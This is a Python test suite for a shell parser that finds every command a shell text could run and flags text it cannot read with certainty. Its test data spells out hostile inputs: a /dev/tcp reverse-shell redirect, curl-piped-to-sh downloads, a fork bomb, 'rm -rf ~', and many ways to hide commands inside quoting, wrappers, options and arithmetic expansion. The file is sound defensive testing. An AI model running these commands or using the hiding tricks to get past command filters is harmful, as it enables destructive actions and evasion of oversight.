"""Shell text is read into the commands it could run, and what cannot be read is said."""

from __future__ import annotations

import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pilothouse.model.shell import Command, Script, parse


def programs(text: str) -> list[str]:
    return [command.name for command in parse(text).commands]


def lines(text: str) -> list[list[str]]:
    return [[word.text for word in command.words] for command in parse(text).commands]


def only(text: str) -> Command:
    script = parse(text)
    assert script.trusted, script.errors
    assert len(script.commands) == 1, script.commands
    return script.commands[0]


STRUCTURE = [
    ("ls -la", [["ls", "-la"]]),
    ("a; b & c && d || e | f |& g\nh", [[name] for name in "abcdefgh"]),
    ("(a; b)", [["a"], ["b"]]),
    ("{ a; b; }", [["a"], ["b"]]),
    ("! a", [["a"]]),
    ("if a; then b; elif c; then d; else e; fi", [["a"], ["b"], ["c"], ["d"], ["e"]]),
    ("for i in 1 2; do a; done", [["a"]]),
    ("for ((i = 0; i < $(a); i++)); do b; done", [["a"], ["b"]]),
    ("while a; do b; done < f", [["a"], ["b"]]),
    ("until a; do b; done", [["a"], ["b"]]),
    ("select i in 1; do a; done", [["a"]]),
    ("case x in y) a;; *) b;; esac", [["a"], ["b"]]),
    ("case $(a) in y) b;; esac", [["a"], ["b"]]),
    ("f() { a; }; f", [["a"], ["f"]]),
    ("function f { a; }", [["a"]]),
    ("echo $(a)", [["echo", "$(a)"], ["a"]]),
    ('echo "x $(a) y"', [["echo", "x $(a) y"], ["a"]]),
    ("echo `a`", [["echo", "`a`"], ["a"]]),
    ("echo ${x:-$(a)}", [["echo", "${x:-$(a)}"], ["a"]]),
    ("echo $(( $(a) + 1 ))", [["echo", "$(( $(a) + 1 ))"], ["a"]]),
    ("diff <(a) >(b)", [["diff", "<(a)", ">(b)"], ["a"], ["b"]]),
    ("x=$(a)", [[], ["a"]]),
    ("x=($(a) b)", [[], ["a"]]),
    ("a > $(b)", [["a"], ["b"]]),
    ("cat <<EOF\n$(a)\nEOF", [["cat"], ["a"]]),
    ("cat <<'EOF'\n$(a)\nEOF", [["cat"]]),
    ("cat <<EOF && a\nx\nEOF\nb", [["cat"], ["a"], ["b"]]),
    ("ls # rm x\nb", [["ls"], ["b"]]),
    ("ls \\\n -la", [["ls", "-la"]]),
    ("echo a > x b", [["echo", "a", "b"]]),
    ("head -5>f", [["head", "-5"]]),
    ("python - <<EOF\nx\nEOF", [["python", "-"]]),
    ("a $(b $(c `d`))", [["a", "$(b $(c `d`))"], ["b", "$(c `d`)"], ["c", "`d`"], ["d"]]),
]


@pytest.mark.parametrize(("text", "expected"), STRUCTURE, ids=[text for text, _ in STRUCTURE])
def test_every_command_of_a_text_is_found_in_source_order(text: str, expected: list[list[str]]) -> None:
    script = parse(text)
    assert script.trusted, script.errors
    assert lines(text) == expected


@pytest.mark.parametrize(
    "program",
    [
        "rm",
        '"rm"',
        "'rm'",
        "r'm'",
        '"r"m',
        "r\\m",
        "\\rm",
        "$'rm'",
        "$'\\x72m'",
        "$'\\162\\155'",
        "$'\\u0072m'",
        "''rm",
        '$"rm"',
    ],
)
def test_quotes_do_not_hide_a_program(program: str) -> None:
    assert only(f"{program} -rf x").name == "rm"


def test_the_name_is_the_last_segment_of_the_program() -> None:
    command = only("/usr/bin/env-x a")
    assert (command.name, command.program) == ("env-x", "/usr/bin/env-x")


@pytest.mark.parametrize(
    ("word", "static", "glob"),
    [
        ("abc", True, False),
        ("'*'", True, False),
        ('"a*b"', True, False),
        ("\\*", True, False),
        ("*.py", False, True),
        ("a?", False, True),
        ("[ab]", False, True),
        ("$x", False, False),
        ('"$x"', False, False),
        ("'$x'", True, False),
        ("\\$x", True, False),
        ("$(ls)", False, False),
        ("`ls`", False, False),
        ("<(ls)", False, False),
        ("~", False, False),
        ("~/x", False, False),
        ("a=~", False, False),
        ("'~'", True, False),
        ("a~", True, False),
        ("{a,b}", False, False),
        ("{1..3}", False, False),
        ("{}", True, False),
        ("'{a,b}'", True, False),
        ("$((1+1))", False, False),
    ],
)
def test_a_word_is_static_only_when_its_value_is_known(word: str, static: bool, glob: bool) -> None:
    found = (
        only(f"echo {word}").words[1]
        if "(" not in word and "`" not in word
        else parse(f"echo {word}").commands[0].words[1]
    )
    assert (found.static, found.glob, found.raw) == (static, glob, word)


WRAPPED = [
    ("sudo rm x", ("sudo",)),
    ("sudo -u root -E A=b rm x", ("sudo",)),
    ("sudo -nu root rm x", ("sudo",)),
    ("doas -u root rm x", ("doas",)),
    ("env rm x", ("env",)),
    ("env -i -u Y A=b rm x", ("env",)),
    ("env -S 'rm x'", ("env",)),
    ("env -S'rm x'", ("env",)),
    ("nohup rm x", ("nohup",)),
    ("time rm x", ("time",)),
    ("nice -n 5 rm x", ("nice",)),
    ("nice -5 rm x", ("nice",)),
    ("ionice -c 3 rm x", ("ionice",)),
    ("stdbuf -oL rm x", ("stdbuf",)),
    ("setsid rm x", ("setsid",)),
    ("timeout -k 1 5s rm x", ("timeout",)),
    ("command rm x", ("command",)),
    ("builtin rm x", ("builtin",)),
    ("exec -a y rm x", ("exec",)),
    ("chroot /y rm x", ("chroot",)),
    ("busybox rm x", ("busybox",)),
    ("watch -n 2 rm x", ("watch",)),
    ("watch 'rm x'", ("watch",)),
    ("flock /l rm x", ("flock",)),
    ("flock /l -c 'rm x'", ("flock",)),
    ("su -c 'rm x'", ("su",)),
    ("su - bob -c 'rm x'", ("su",)),
    ("sh -c 'rm x'", ("sh -c",)),
    ("bash -lc 'rm x' name arg", ("bash -c",)),
    ("bash -o pipefail -ec 'rm x'", ("bash -c",)),
    ("/bin/bash -c \"bash -c 'rm x'\"", ("bash -c", "bash -c")),
    ("eval rm x", ("eval",)),
    ("eval 'rm x'", ("eval",)),
    ("uv run rm x", ("uv run",)),
    ("poetry run rm x", ("poetry run",)),
    ("sudo env nohup timeout 5 sh -c 'rm x'", ("sudo", "env", "nohup", "timeout", "sh -c")),
    ("unshare -r rm x", ("unshare",)),
    ("nsenter -t 1 rm x", ("nsenter",)),
]


@pytest.mark.parametrize(("text", "wrappers"), WRAPPED, ids=[text for text, _ in WRAPPED])
def test_wrappers_are_taken_off_and_named(text: str, wrappers: tuple[str, ...]) -> None:
    command = only(text)
    assert [word.text for word in command.words] == ["rm", "x"]
    assert command.wrappers == wrappers


INSIDE = [
    "find . -exec rm {} \\;",
    "find . -execdir rm {} +",
    "find . -name x -ok rm {} \\; -print",
    "fd -x rm",
    "xargs rm",
    "xargs -0 -n 1 -I {} rm {}",
    "parallel rm ::: a b",
    "parallel ::: 'rm a'",
    "ssh -p 22 host rm x",
    "ssh host 'cd /x; rm y'",
    "ssh -o ProxyCommand='rm x' host",
    "docker exec -it c rm x",
    "docker run --rm -v a:b image rm x",
    "docker compose exec web rm x",
    "kubectl exec -n ns pod -- rm x",
    "git -c alias.x='!rm y' x",
    "git -c core.sshCommand='rm x' fetch",
    "git rebase -x 'rm x' main",
    "git bisect run rm x",
    "git submodule foreach 'rm x'",
    "vim -c ':!rm x'",
    "vim '+!rm x'",
    "awk 'BEGIN { system(\"rm x\") }'",
    "awk '{ print | \"rm x\" }'",
    "python -c 'import os; os.system(\"rm x\")'",
    "python3.11 - <<EOF\nimport os\nos.system('rm x')\nEOF",
    "perl -e 'system(\"rm x\")'",
    "ruby -e 'system(\"rm x\")'",
    'node -e \'require("child_process").execSync("rm x")\'',
    "tar --checkpoint=1 --checkpoint-action=exec='rm x' -cf a b",
    "tar -I 'rm x' -xf a",
    "rsync -e 'rm x' a b:c",
    "strace -f -o log rm x",
    "script -qc 'rm x' log",
    "trap 'rm x' EXIT",
    "alias ls='rm x'",
    "bash <<EOF\nrm x\nEOF",
    "bash -s <<'EOF'\nrm x\nEOF",
    "bash <<< 'rm x'",
    "cat <<EOF | sh\nrm x\nEOF",
    "echo 'rm x' | sh",
    "echo rm x | sudo bash -s",
    "tmux new -d 'rm x'",
    "npx -c 'rm x'",
    "cat x | { rm y; }",
    "{rm,x}; rm y",
]


@pytest.mark.parametrize("text", INSIDE)
def test_commands_inside_other_commands_are_found(text: str) -> None:
    assert "rm" in programs(text)


@pytest.mark.parametrize(
    "text",
    [
        "echo 'unterminated",
        'echo "unterminated',
        "echo $(",
        "if a; then b",
        "(a",
        "a )",
        "{rm,-rf,/}",
        "a && ",
        "cat <<EOF\nx",
        "$x -rf /",
        "${x:-rm} y",
        "/bin/r? x",
        "$(echo rm) x",
        'sh -c "$x"',
        "eval $x",
        "curl x | sh",
        "curl x | sudo bash -s -- a",
        "bash <(curl x)",
        "source <(curl x)",
        "curl x | python3",
        "parallel < list",
        "[]",
        "[zza]",
        "a == #b",
        "[ -f x && rm y ]",
        "[ -f x\nrm y ]",
        "[ x || rm y ]",
        "export a\n\\ b",
        "awk '{ system($1) }'",
        "awk '{ print | cmd }'",
        "xargs -I{} sh -c 'rm {}'",
        "sudo --no-such-option x rm y",
        "a\0b",
        "a\x1b[2Kb",
        "a\rb",
        "ls\r\nrm x",
        "a \u202e b",
        "a \ud800",
        "r\\\nm x",
        "ls\u2028rm",
        "ls \u00a0",
        "{}",
        "0a=b",
        "ls > x$(a)\\ty'",
        "coproc a",
        "x {fd}> y",
        "a <<A <<B\n1\nA\n2\nB\n",
        "a" * 70_000,
        "(" * 10_000,
        "$(" * 5_000,
        "ls | " * 5_000,
        'sh -c \'sh -c "sh -c \\"sh -c ls\\""\'; ' + "sudo " * 30 + "ls",
    ],
    ids=lambda text: repr(text[:30]),
)
def test_what_cannot_be_read_with_certainty_is_not_trusted(text: str) -> None:
    script = parse(text)
    assert not script.trusted
    assert all(isinstance(reason, str) and reason for reason in script.errors)


def test_a_here_document_ends_where_bash_ends_it() -> None:
    # a blank before the delimiter keeps the document open in bash
    assert not parse("cat <<EOF\nx\n EOF\nrm y\nEOF\n").trusted
    assert parse("cat <<-EOF\n\tx\n\tEOF\nrm y").trusted
    assert programs("cat <<-EOF\n\tx\n\tEOF\nrm y") == ["cat", "rm"]


def test_a_broken_text_still_shows_the_commands_beside_the_break() -> None:
    script = parse("rm -rf ~ ; echo ( '")
    assert not script.trusted
    assert "rm" in [command.name for command in script.commands]


def test_redirections_carry_their_operator_target_and_descriptor() -> None:
    found = only("a > b 2>> c < d 2>&1 >| e &> g").redirects
    assert [(item.operator, item.target and item.target.text, item.fd, item.writes) for item in found] == [
        (">", "b", None, True),
        (">>", "c", 2, True),
        ("<", "d", None, False),
        (">&", "1", 2, False),
        (">|", "e", None, True),
        ("&>", "g", None, True),
    ]


def test_a_descriptor_before_a_redirection_is_no_argument() -> None:
    command = only("bash -i >& /dev/tcp/h/1 0>&1")
    assert [word.text for word in command.words] == ["bash", "-i"]
    assert [(item.operator, item.fd) for item in command.redirects] == [(">&", None), (">&", 0)]


def test_a_groups_redirection_holds_for_each_of_its_commands() -> None:
    script = parse("{ a; b 2> c; } > d")
    assert [[item.target.text for item in command.redirects if item.target] for command in script.commands] == [
        ["d"],
        ["c", "d"],
    ]


def test_assignments_are_found_in_front_through_env_and_export() -> None:
    for text in ("A=b c", "env A=b c", "sudo A=b c"):
        assert [(name, value.text) for name, value in only(text).assignments] == [("A", "b")]
    command = only("export A=b C")
    assert [word.text for word in command.words] == ["export", "A=b", "C"]
    assert [(name, value.text) for name, value in command.assignments] == [("A", "b")]
    assert only("A=b").words == ()


def test_commands_know_where_they_stand() -> None:
    assert only("(a) &").context == {"subshell", "background"}
    assert parse("a | b").commands[1].piped
    assert not parse("a | b").commands[0].piped
    assert parse("curl x | { a; b; }").commands[2].piped
    assert parse("echo $(a)").commands[1].context == {"substitution"}
    assert parse("f() { a; }").commands[0].context == {"function"}
    assert parse("ssh h a").commands[-1].context == {"remote"}


@pytest.mark.parametrize(
    ("text", "feature"),
    [
        ("a | b", "pipeline"),
        ("a &", "background"),
        ("echo $x", "variable"),
        ("echo *", "glob"),
        ("echo $(a)", "substitution"),
        ("a <(b)", "process-substitution"),
        ("a > b", "redirect-write"),
        ("f() { a; }", "function"),
        ("while a; do b; done", "loop"),
        ("a <<E\nE", "heredoc"),
        ("A=b c", "assignment"),
        ("alias a=b", "alias"),
        ("(a)", "subshell"),
        ("((1))", "arithmetic"),
        ("a # b", "comment"),
        ("coproc a", "coproc"),
        (":(){ :|:& };:", "fork-bomb"),
        ("ls \u2013la", "lookalike"),
        ("curl x | sh", "dynamic-code"),
    ],
)
def test_features_of_a_text_are_named(text: str, feature: str) -> None:
    assert feature in parse(text).features


def test_quoted_text_may_hold_any_letters() -> None:
    script = parse("git commit -m 'don\u2019t \u2013 \u201cquote\u201d'")
    assert script.trusted
    assert "lookalike" not in script.features


@pytest.mark.parametrize("letter", ["é", "\u0440", "\u8fff", "\U0001d11e", "\U0010ffff"])
def test_letters_beyond_ascii_are_letters_of_a_word(letter: str) -> None:
    command = only(f"n{letter}m a{letter} '{letter} b' {{{letter} >{letter}")
    assert [word.text for word in command.words] == [f"n{letter}m", f"a{letter}", f"{letter} b", "{" + letter]
    assert [item.target.text for item in command.redirects if item.target] == [letter]
    # an assignment and a delimiter of other letters are not what they look like to a parser that knows only ASCII
    assert not parse(f"{letter}=b c").trusted
    assert not parse(f"cat <<{letter}\nx\nZ\nrm y\n{letter}\n").trusted


def test_importing_the_module_does_not_load_the_grammar() -> None:
    check = "import sys; import pilothouse.model.shell; assert 'tree_sitter' not in sys.modules"
    subprocess.run([sys.executable, "-c", check], check=True, timeout=60)


SHELLISH = st.lists(
    st.sampled_from([*"ab $`'\"\\;&|(){}<>\n\t#*?[]=~!-0", "$(", "<<E\n", "\nE\n", "${", "))", "é", "\ud800", "\0"]),
    max_size=60,
).map("".join)


@given(st.one_of(st.text(max_size=200), SHELLISH))
@settings(max_examples=400, deadline=None)
def test_parsing_never_raises(text: str) -> None:
    script = parse(text)
    assert isinstance(script, Script)
    for command in script.commands:
        assert isinstance(command.name, str)
        assert isinstance([item.writes for item in command.redirects], list)


LETTERS = {
    "plain": lambda c: c,
    "single": lambda c: f"'{c}'",
    "double": lambda c: f'"{c}"',
    "escaped": lambda c: f"\\{c}",
    "ansi": lambda c: f"$'{c}'",
    "hex": lambda c: f"$'\\x{ord(c):02x}'",
    "octal": lambda c: f"$'\\{ord(c):03o}'",
    "empty": lambda c: f"''{c}\"\"",
}
QUOTING = st.lists(st.sampled_from(sorted(LETTERS)), min_size=12, max_size=12)


@given(QUOTING, st.sampled_from(["rm", "sudo", "curl", "git"]))
@settings(max_examples=200, deadline=None)
def test_any_quoting_of_a_name_gives_the_name(how: list[str], name: str) -> None:
    text = "".join(LETTERS[kind](letter) for kind, letter in zip(how, name, strict=False))
    assert lines(f"{text} x") == lines(f"{name} x")
    assert parse(f"{text} x").trusted


OPERATORS = ["; ", " && ", " || ", " | ", " & ", "\n", " |& "]
PIECES = [
    "ls -la",
    "rm x",
    "echo 'a b'",
    "A=b c",
    "git status",
    "(a; b)",
    "a > b",
    "echo $(c)",
    "sudo d",
    "{ e; }",
    "a <<E\nx\nE\n",
]


@given(st.sampled_from(PIECES[:-1]), st.sampled_from(OPERATORS), st.sampled_from(PIECES))
def test_a_chain_holds_the_commands_of_both_sides(left: str, operator: str, right: str) -> None:
    both = lines(left + operator + right)
    assert both == lines(left) + lines(right)


def test_the_grammar_is_never_given_what_crashes_it() -> None:
    """Characters beyond ASCII have brought the grammar's scanner down; a crash would take the tests along, so apart."""
    code = (
        "from pilothouse.model.shell import parse\n"
        "for text in ('{\\U000d9f1e', '$\\U0001f600{', '<<\\u2028', 'é|\\u202e&', '\\U000e0001'):\n"
        "    for _ in range(200):\n"
        "        parse(text * 3)\n"
        "print('alive')\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=False)
    assert done.stdout.strip() == "alive", (done.returncode, done.stderr)


def test_texts_may_be_parsed_in_many_threads() -> None:
    texts = ["git status", "a && b", "cat <<E\nx\nE", "echo $(ls)", "x | y > z"] * 40
    with ThreadPoolExecutor(8) as pool:
        found = list(pool.map(parse, texts))
    assert found == [parse(text) for text in texts]


# What is not where it seems -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "(( 'a[$(rm x)]' ))",
        "(('`rm x`'))",
        "for (( i='a[$(rm x)]'; i<1; i++ )); do ls; done",
        "[[ 'a[$(rm x)]' -eq 0 ]]",
        "[ -v 'a[$(rm x)]' ]",
        "test -v 'a[$(rm x)]'",
        "let 'a[$(rm x)]'",
        "printf -v 'a[$(rm x)]' y",
        "read 'a[$(rm x)]'",
        "declare -i x='a[$(rm x)]'",
        "declare 'a[$(rm x)]=1'",
        "compgen -W '$(rm x)'",
        'echo `echo "\\$(rm x)"`',
        "((PATH=1))",
        "echo $((PATH = 1))",
        "((PATH++))",
    ],
)
def test_text_that_bash_expands_once_more_is_not_trusted(text: str) -> None:
    assert not parse(text).trusted, text


@pytest.mark.parametrize(
    "text", ["printf '%s' '$(x)'", "echo 'a[$(x)]'", "[[ $a == '$(x)' ]]", "((i == 1))", "((i++))", "echo `ls '*.py'`"]
)
def test_text_that_bash_leaves_alone_stays_trusted(text: str) -> None:
    assert parse(text).trusted, text


@pytest.mark.parametrize(
    ("text", "wrapper"),
    [
        ("tar cf a -I 'rm x' b", "tar -I"),
        ("tar cfI a 'rm x' b", "tar -I"),
        ("tar cf a --use-comp='rm x' b", "tar --use-compress-program"),
        ("tar cf a --checkpoint-action exec='rm x' b", "tar --checkpoint-action"),
        ("zip a b -TT 'rm x'", "zip -TT"),
        ("man -P'rm x' ls", "man -P"),
        ("go test --exec='rm x' ./...", "go -exec"),
        ("make SHELL='rm x'", "make SHELL"),
        ("git difftool -y -x 'rm x'", "git difftool -x"),
        ("git -C src rebase --exec='rm x' main", ""),
        ("rsync -ae 'rm x' a b", "rsync -e"),
        ("scp -o 'ProxyCommand rm x' a h:b", "scp -o ProxyCommand"),
        ("ssh -oProxyCommand='rm x' h", "ssh -o ProxyCommand"),
        ("psql -P pager='rm x'", "psql -P"),
        ("mapfile -C 'rm x' < f", "mapfile -C"),
        ("cmake -E rm x", "cmake -E"),
    ],
)
def test_a_command_in_an_option_is_found_with_the_option_that_runs_it(text: str, wrapper: str) -> None:
    found = [command for command in parse(text).commands if command.name == "rm"]
    if wrapper:
        assert [command.wrappers for command in found] == [(wrapper,)]
    else:
        assert found


@pytest.mark.parametrize(
    "text", ["tar -I zstd -cf a b", "rsync -e 'ssh -p 22' a b", "make CC=clang", "tar cf a --checkpoint-action=dot b"]
)
def test_a_usual_helper_in_an_option_is_no_hidden_command(text: str) -> None:
    assert len(parse(text).commands) == 1


def test_commands_can_be_had_as_they_are_written() -> None:
    script = parse("sudo -n rm x && sh -c 'ls' | env A=1 wc", unwrapped=False)
    assert [[word.text for word in command.words] for command in script.commands] == [
        ["sudo", "-n", "rm", "x"],
        ["sh", "-c", "ls"],
        ["env", "A=1", "wc"],
    ]
    assert not any(command.wrappers for command in script.commands)


def test_the_variable_of_a_loop_over_known_words_is_known() -> None:
    script = parse('for f in a "b c" *.py; do cat "$f" "${f}" "x$f" $f; done')
    words = [[(word.text, word.static, word.glob) for word in command.words[1:3]] for command in script.commands]
    assert words == [
        [(value, static, not static)] * 2 for value, static in (("a", True), ("b c", True), ("*.py", False))
    ]
    assert all(not word.static for command in script.commands for word in command.words[3:])


@pytest.mark.parametrize(
    "text",
    [
        'for f in a; do for f in b; do :; done; cat "$f"; done',
        'for f in a; do for\tf in b; do :; done; cat "$f"; done',
        'for f in a; do f=b; cat "$f"; done',
        'for f in a; do read f; cat "$f"; done',
        'for f in a; do :; done; cat "$f"',
        'for f in $x; do cat "$f"; done',
        "for f in a; do sh -c 'cat \"$f\"'; done",
    ],
)
def test_a_variable_that_may_have_another_value_is_not_known(text: str) -> None:
    found = [command for command in parse(text).commands if command.name == "cat"]
    assert found
    assert not any(word.static for command in found for word in command.words[1:])


def test_a_loop_that_sets_a_variable_of_the_environment_is_an_assignment() -> None:
    for text in ("for PATH in a; do ls; done", "for http_proxy in a; do ls; done", "read PATH"):
        assert any(command.assignments for command in parse(text).commands), text
    assert not any(command.assignments for command in parse("for f in a; do ls; done").commands)


def test_a_text_of_several_lines_is_a_text() -> None:
    script = parse("git commit -m \"$(cat <<'EOF'\nit's `x` $(rm y)\n\nEOF\n)\"")
    assert script.trusted
    assert [[word.text for word in command.words] for command in script.commands] == [
        ["git", "commit", "-m", "it's `x` $(rm y)"]
    ]
    for text in (
        'git commit -m "$(cat <<EOF\n$(rm y)\nEOF\n)"',
        "git commit -m \"$(cat <<'EOF'\nx\nEOF\nrm y\n)\"",
        "git commit -m \"$(cat <<'EOF'\nx\nEOF\n)\"; rm y",
    ):
        assert any(command.name == "rm" for command in parse(text).commands), text


def test_a_line_that_the_grammar_glues_to_the_next_is_read_by_itself_as_well() -> None:
    script = parse("echo x | base64 -d | sh\nls 2>/dev/null")
    assert not script.trusted
    names = [[word.text for word in command.words] for command in script.commands]
    assert ["sh"] in names
    assert ["ls"] in names
